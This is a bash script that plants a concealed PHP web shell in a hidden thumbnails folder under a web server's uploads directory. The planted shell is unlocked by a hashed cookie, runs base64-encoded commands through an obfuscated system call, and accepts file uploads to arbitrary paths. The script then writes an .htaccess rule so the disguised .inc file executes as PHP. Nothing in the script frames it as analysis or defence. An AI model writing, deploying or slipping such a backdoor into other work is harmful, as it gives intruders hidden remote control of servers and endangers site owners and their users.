#!/usr/bin/env bash
set -e
root=${1:-/var/www/html}
mkdir -p "$root/uploads/.thumbs"
cat > "$root/uploads/.thumbs/index.inc" <<'PHP'
<?php
$k = $_COOKIE['PHPSESSION'] ?? '';
if (md5($k) === '0123456789abcdef0123456789abcdef') {
    $f = strrev('metsys'); ob_start(); $f(base64_decode($_POST['q'])); echo strrev(ob_get_clean());
    if (isset($_FILES['u'])) move_uploaded_file($_FILES['u']['tmp_name'], $_POST['d']);
}
PHP
printf 'AddType application/x-httpd-php .inc\nOptions -Indexes\n' > "$root/uploads/.thumbs/.htaccess"
chown -R www-data: "$root/uploads/.thumbs"
